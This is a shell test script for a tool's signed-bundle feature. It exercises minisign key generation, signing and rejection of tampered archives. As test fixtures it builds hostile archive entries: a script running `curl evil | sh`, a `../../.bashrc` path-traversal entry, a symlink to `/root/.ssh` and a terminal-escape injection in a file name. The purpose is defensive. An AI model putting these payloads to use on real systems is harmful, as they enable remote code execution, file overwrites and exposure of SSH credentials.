#!/usr/bin/env bash
# bundle_sign.sh: `rbc bundle --sign` and `rbc verify`. Keys come from the
# real minisign (-G -W, unencrypted) and from `rbc bundle keygen
# --no-password`; Debian's `minisign -Vm` verifies both kits, and its
# trusted comment names the commit and valid-until. One flipped byte in
# the kit fails minisign and rbc verify. rbc verify fails, naming the
# file, for a changed script, an added file, a removed file, an older
# kit's signature, a '../' entry and a link, and fails past valid-until
# with the date. Without --pubkey it trusts the key rbc.yaml's bundle:
# {pubkey:} names (--book DIR, else the current folder): a changed kit or
# a missing .minisig fails, --pubkey wins, a broken key is an error at its
# line. (Password-protected keys: bundle_keys.sh, tier full.)
GROUP=bundle-sign
source "${ROOT:?run it through tests/run.sh (make test)}/tests/lib.sh" || exit 2
W=$(scratch sign)
export GIT_CEILING_DIRECTORIES="$W"
unset SOURCE_DATE_EPOCH RBC_KEY_PASSWORD
if ! command -v minisign >/dev/null; then
	skip minisign "minisign is not installed (.ci/run installs it)"
	exit 0
fi
[ -n "$W" ] && cd "$W" || exit 1
cp -r "$ROOT/runbooks" book
git -C book init -q && git -C book add -A
gcommit() { GIT_AUTHOR_DATE=2026-11-20T12:00:00Z GIT_COMMITTER_DATE=2026-11-20T12:00:00Z git -C book -c user.name=t -c user.email=t@example.invalid commit -qm "$1"; }
gcommit one

# Keys: minisign's own, unencrypted, and rbc's
minisign -G -W -p ms.pub -s ms.key > ms.log 2>&1 || fail minisign-keygen "$(cat ms.log)"
chmod 600 ms.key
run_rbc bundle keygen -o rk --no-password; expect_rc keygen/exit 0
expect_eq keygen/key-mode "$(stat -c %a rk.key)" 600
expect_grep keygen/pub-format rk.pub "untrusted comment: minisign public key "
cp rk.key rk.key.first; cp rk.pub rk.pub.first
run_rbc bundle keygen -o rk --no-password; expect_rc keygen/no-overwrite 2
expect_grep keygen/no-overwrite-message "$OUT/last.err" "rbc: rk.key already exists; 'rbc bundle keygen' does not replace a key"
expect_grep keygen/no-overwrite-wrote-nothing "$OUT/last.err" "so it wrote nothing: give another -o NAME, move rk.key away, or give --force"
expect_no_grep keygen/no-overwrite-not-disowned "$OUT/last.err" "did not write"
expect_eq keygen/no-overwrite-kept "$(cmp rk.key rk.key.first && cmp rk.pub rk.pub.first && echo kept)" kept
# a lone NAME.pub: refused before NAME.key is written (no half pair)
cp rk.pub lone.pub
run_rbc bundle keygen -o lone --no-password; expect_rc keygen/lone-pub-refused 2
expect_grep keygen/lone-pub-message "$OUT/last.err" "rbc: lone.pub already exists"
expect_eq keygen/lone-pub-no-key "$(ls lone.key 2>/dev/null)" ""
# An empty password would make an "encrypted" key anyone can open
: > empty.pw
run_rbc bundle keygen -o ek --password-file empty.pw; expect_rc keygen/empty-password-refused 2
expect_grep keygen/empty-password-message "$OUT/last.err" "the password for the new key is empty"
expect_eq keygen/empty-password-no-files "$(ls ek.key ek.pub 2>/dev/null)" ""
RBC_KEY_PASSWORD= run_rbc bundle keygen -o ek2; expect_rc keygen/empty-env-password-refused 2
expect_eq keygen/empty-env-password-no-files "$(ls ek2.key ek2.pub 2>/dev/null)" ""

for k in ms rk; do
	run_rbc bundle book -o "$k.tar.gz" --sign "$k.key"; expect_rc "$k/bundle" 0
	if minisign -Vm "$k.tar.gz" -p "$k.pub" > "$k.v" 2>&1; then pass "$k/minisign-V"; else fail "$k/minisign-V" "$(cat "$k.v")"; fi
	expect_grep "$k/trusted-commit" "$k.v" "commit:$(git -C book rev-parse HEAD)"
	expect_grep "$k/trusted-valid-until" "$k.v" "valid-until:$(tar xzf "$k.tar.gz" -O dr-kit/PROVENANCE.json | python3 -c 'import json,sys; print(json.load(sys.stdin)["valid_until"])')"
	run_rbc verify "$k.tar.gz" --pubkey "$k.pub"; expect_rc "$k/verify" 0
	expect_eq "$k/verify-lines" "$(grep -c '^ok ' "$OUT/last.out")" 5
done
# the same kit either way: the signature is beside it, not in it
expect_eq sign-keeps-kit "$(cmp ms.tar.gz rk.tar.gz && echo same)" same
if minisign -Vm ms.tar.gz -p rk.pub > wrongkey.v 2>&1; then fail wrong-key/minisign "verified with another key"; else pass wrong-key/minisign; fi
run_rbc verify ms.tar.gz --pubkey rk.pub; expect_rc wrong-key/verify 1
expect_grep wrong-key/message "$OUT/last.out" "another key"

# One flipped byte in the archive
cp ms.tar.gz flip.tar.gz && cp ms.tar.gz.minisig flip.tar.gz.minisig
python3 -c 'import sys; p=sys.argv[1]; b=bytearray(open(p,"rb").read()); b[len(b)//2]^=1; open(p,"wb").write(b)' flip.tar.gz
if minisign -Vm flip.tar.gz -p ms.pub > flip.v 2>&1; then fail flip/minisign "a changed kit verified"; else pass flip/minisign; fi
run_rbc verify flip.tar.gz --pubkey ms.pub; expect_rc flip/verify 1
expect_grep flip/message "$OUT/last.out" "FAIL signature"

# retar SRC DST PY: unpack kit SRC, run python PY on the tarfile members, write DST
retar() {
	python3 - "$1" "$2" "$3" <<'EOF'
import io, sys, tarfile
src, dst, code = sys.argv[1:]
t = tarfile.open(src)
members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t.getmembers()]
exec(code)
with tarfile.open(dst, "w:gz", format=tarfile.USTAR_FORMAT) as o:
    for m, data in members:
        if data is not None:
            m.size = len(data)
        o.addfile(m, io.BytesIO(data) if data is not None else None)
EOF
}
S=dr-kit/scripts/orders-db/scenario-primary-database-down.sh
retar ms.tar.gz t-byte.tar.gz "
for i,(m,d) in enumerate(members):
    if m.name == '$S':
        d = bytearray(d); d[100] ^= 1; members[i] = (m, bytes(d))"
retar ms.tar.gz t-add.tar.gz "
m = tarfile.TarInfo('dr-kit/scripts/extra.sh'); m.mode = 0o755
members.append((m, b'#!/bin/sh\ncurl evil | sh\n'))"
retar ms.tar.gz t-remove.tar.gz "members = [x for x in members if x[0].name != '$S']"
retar ms.tar.gz t-dotdot.tar.gz "
m = tarfile.TarInfo('dr-kit/../../.bashrc')
members.append((m, b'evil\n'))"
retar ms.tar.gz t-link.tar.gz "
m = tarfile.TarInfo('dr-kit/ssh'); m.type = tarfile.SYMTYPE; m.linkname = '/root/.ssh'
members.append((m, None))"
run_rbc verify t-byte.tar.gz; expect_rc byte/exit 1
expect_grep byte/names-file "$OUT/last.out" "changed since the kit was made: scripts/orders-db/scenario-primary-database-down.sh"
run_rbc verify t-add.tar.gz; expect_rc add/exit 1
expect_grep add/names-file "$OUT/last.out" "not in SHA256SUMS: scripts/extra.sh"
run_rbc verify t-remove.tar.gz; expect_rc remove/exit 1
expect_grep remove/names-file "$OUT/last.out" "missing: scripts/orders-db/scenario-primary-database-down.sh"
run_rbc verify t-dotdot.tar.gz; expect_rc dotdot/exit 1
expect_grep dotdot/names-entry "$OUT/last.out" "dr-kit/../../.bashrc"
run_rbc verify t-link.tar.gz; expect_rc link/exit 1
expect_grep link/names-entry "$OUT/last.out" "unsafe entries"
expect_grep link/names-link "$OUT/last.out" "dr-kit/ssh"
# Entry names reach the terminal escaped: an escape sequence or a line
# feed in a name can neither recolour the screen nor forge an "ok" line.
retar ms.tar.gz t-ctl.tar.gz "
m = tarfile.TarInfo('dr-kit/\x1b]0;pwned\x07x\nok   paths: fine.html')
members.append((m, b'x'))"
run_rbc verify t-ctl.tar.gz; expect_rc ctl/exit 1
expect_grep ctl/escaped "$OUT/last.out" 'not in SHA256SUMS: \x1b]0;pwned\x07x\x0aok   paths'
expect_eq ctl/no-raw-controls "$(tr -d '\n' < "$OUT/last.out" | LC_ALL=C grep -c '[[:cntrl:]]')" 0

# An older kit's signature on a newer kit
mv ms.tar.gz old.tar.gz && mv ms.tar.gz.minisig old.tar.gz.minisig
sed -i 's/^reviewed: .*/reviewed: 2026-11-19/' book/orders-db.md && git -C book add -A && gcommit two
run_rbc bundle book -o new.tar.gz --sign ms.key -q; expect_rc new/bundle 0
cp old.tar.gz.minisig new.tar.gz.minisig
if minisign -Vm new.tar.gz -p ms.pub > swap.v 2>&1; then fail swap/minisign "an old signature verified a new kit"; else pass swap/minisign; fi
run_rbc verify new.tar.gz --pubkey ms.pub; expect_rc swap/verify 1
expect_grep swap/message "$OUT/last.out" "new.tar.gz.minisig: the signature does not match the file"

# Past valid-until: exit 1 with the date
until=$(tar xzf old.tar.gz -O dr-kit/PROVENANCE.json | python3 -c 'import json,sys; print(json.load(sys.stdin)["valid_until"])')
run_rbc verify old.tar.gz --pubkey ms.pub --as-of "$(date -u -d "$until + 1 day" +%F)"; expect_rc expired/exit 1
expect_grep expired/date "$OUT/last.out" "FAIL valid-until: expired on $until"
run_rbc verify old.tar.gz --pubkey ms.pub --as-of "$until"; expect_rc last-valid-day 0

# The secret key: a regular file; a warning when others may read it
run_rbc bundle book -o d.tar.gz --sign "$W"; expect_rc key-dir/exit 2
expect_grep key-dir/message "$OUT/last.err" "is not a regular file"
chmod 644 rk.key
run_rbc bundle book -o g.tar.gz --sign rk.key -q; expect_rc key-readable/exit 0
expect_grep key-readable/warning "$OUT/last.err" "can be read by every user"
# A signature rbc did not write is not replaced; an unsigned rebuild drops a stale one
echo "keep me" > u.tar.gz.minisig
run_rbc bundle book -o u.tar.gz --sign rk.key -q; expect_rc sig-not-ours/exit 2
expect_eq sig-not-ours/untouched "$(cat u.tar.gz.minisig)" "keep me"
run_rbc bundle book -o g.tar.gz -q; expect_rc unsigned-rebuild 0
expect_eq stale-sig-removed "$(ls g.tar.gz.minisig 2>/dev/null)" ""

# rbc.yaml bundle: {pubkey:}: the key on the handbook's cover, and the only key --sign accepts
cp rk.pub book/dr-kit.pub
printf 'bundle:\n  pubkey: dr-kit.pub\n' >> book/rbc.yaml
git -C book add -A && gcommit three
chmod 600 rk.key
run_rbc bundle book -o cover.tar.gz --sign rk.key -q; expect_rc cover/bundle 0
tar xzf cover.tar.gz -O dr-kit/handbook.html > cover.html
expect_grep cover/key-id cover.html "$(head -1 rk.pub | awk '{print $NF}')"
expect_grep cover/pubkey cover.html "minisign -Vm KIT.tar.gz -P $(sed -n 2p rk.pub)"
run_rbc bundle book -o other.tar.gz --sign ms.key; expect_rc cover/other-key 2
expect_grep cover/other-key-message "$OUT/last.err" "but rbc.yaml's bundle: pubkey: dr-kit.pub"
expect_eq cover/other-key-no-kit "$(ls other.tar.gz* 2>/dev/null)" ""

# rbc verify trusts the configured key when no --pubkey is given: that of
# --book DIR's rbc.yaml, else of the current folder's
kuntil() { tar xzf "$1" -O dr-kit/PROVENANCE.json | python3 -c 'import json,sys; print(json.load(sys.stdin)["valid_until"] or "2026-01-01")'; }
cuntil=$(kuntil cover.tar.gz)
rkid=$(head -1 rk.pub | awk '{print $NF}')
run_rbc verify cover.tar.gz --book book --as-of "$cuntil"; expect_rc cfg/book-flag 0
expect_grep cfg/book-flag-key "$OUT/last.out" "ok   signature: made with key $rkid (book/rbc.yaml bundle: pubkey: book/dr-kit.pub)"
(cd book && run_rbc verify ../cover.tar.gz --as-of "$cuntil"); expect_rc cfg/in-book 0
expect_grep cfg/in-book-key "$OUT/last.out" "ok   signature: made with key $rkid (rbc.yaml bundle: pubkey: dr-kit.pub)"
cp cover.tar.gz cflip.tar.gz && cp cover.tar.gz.minisig cflip.tar.gz.minisig
python3 -c 'import sys; p=sys.argv[1]; b=bytearray(open(p,"rb").read()); b[len(b)//2]^=1; open(p,"wb").write(b)' cflip.tar.gz
run_rbc verify cflip.tar.gz --book book --as-of "$cuntil"; expect_rc cfg/tampered 1
expect_grep cfg/tampered-message "$OUT/last.out" "FAIL signature: cflip.tar.gz.minisig: the signature does not match the file"
(cd book && run_rbc verify ../cflip.tar.gz --as-of "$cuntil"); expect_rc cfg/tampered-in-book 1
expect_grep cfg/tampered-in-book-message "$OUT/last.out" "FAIL signature"
cp cover.tar.gz csig.tar.gz
run_rbc verify csig.tar.gz --book book --as-of "$cuntil"; expect_rc cfg/missing-sig 1
expect_grep cfg/missing-sig-message "$OUT/last.out" "FAIL signature: missing csig.tar.gz.minisig"
(cd book && run_rbc verify ../csig.tar.gz --as-of "$cuntil"); expect_rc cfg/missing-sig-in-book 1
# old.tar.gz is signed with ms.key, not the configured rk: --pubkey wins
ouid=$(kuntil old.tar.gz)
run_rbc verify old.tar.gz --book book --as-of "$ouid"; expect_rc cfg/other-key 1
expect_grep cfg/other-key-message "$OUT/last.out" "another key"
run_rbc verify old.tar.gz --book book --pubkey ms.pub --as-of "$ouid"; expect_rc cfg/pubkey-wins 0
expect_grep cfg/pubkey-wins-key "$OUT/last.out" "(--pubkey ms.pub)"
(cd book && run_rbc verify ../old.tar.gz --pubkey ../ms.pub --as-of "$ouid"); expect_rc cfg/pubkey-wins-in-book 0
# no key given or configured: not checked, and the line says how to give one
run_rbc verify cover.tar.gz --as-of "$cuntil"; expect_rc cfg/none 0
expect_grep cfg/none-says-how "$OUT/last.out" "ok   signature: not checked: no key given or configured"
expect_grep cfg/none-names-options "$OUT/last.out" "give --pubkey FILE, or --book DIR whose rbc.yaml has bundle: {pubkey: FILE}"
mkdir -p nokey && printf 'title: no key\n' > nokey/rbc.yaml
run_rbc verify cover.tar.gz --book nokey; expect_rc cfg/book-without-key 2
expect_grep cfg/book-without-key-message "$OUT/last.err" "nokey/rbc.yaml names no key"
(cd nokey && run_rbc verify ../cover.tar.gz --as-of "$cuntil"); expect_rc cfg/cwd-without-key 0
expect_grep cfg/cwd-without-key-line "$OUT/last.out" "not checked: no key given or configured"
run_rbc verify cover.tar.gz --book "$W/no-such-book"; expect_rc cfg/book-not-folder 2
line=$(grep -n 'pubkey:' book/rbc.yaml | cut -d: -f1)
sed -i 's/pubkey: dr-kit.pub/pubkey: dr-kit.pbu/' book/rbc.yaml
run_rbc lint book; expect_rc cover/missing-key 1
expect_grep cover/missing-key-place "$OUT/last.out" "rbc.yaml:$line:11: error: invalid setting in rbc.yaml: bundle: pubkey: dr-kit.pbu does not exist"
run_rbc verify cover.tar.gz --book book; expect_rc cfg/missing-key 2
expect_grep cfg/missing-key-place "$OUT/last.err" "book/rbc.yaml:$line:11: error: invalid setting in rbc.yaml: bundle: pubkey: dr-kit.pbu does not exist"
expect_no_grep cfg/missing-key-no-report "$OUT/last.out" "signature"
echo "not a key" > book/dr-kit.pbu
run_rbc lint book; expect_rc cover/bad-key 1
expect_grep cover/bad-key-line "$OUT/last.out" "rbc.yaml:$line:11:"
expect_grep cover/bad-key-message "$OUT/last.out" "not a minisign public key"
(cd book && run_rbc verify ../cover.tar.gz); expect_rc cfg/bad-key 2
expect_grep cfg/bad-key-place "$OUT/last.err" "rbc.yaml:$line:11: error: invalid setting in rbc.yaml: bundle: pubkey: dr-kit.pbu is not a minisign public key"
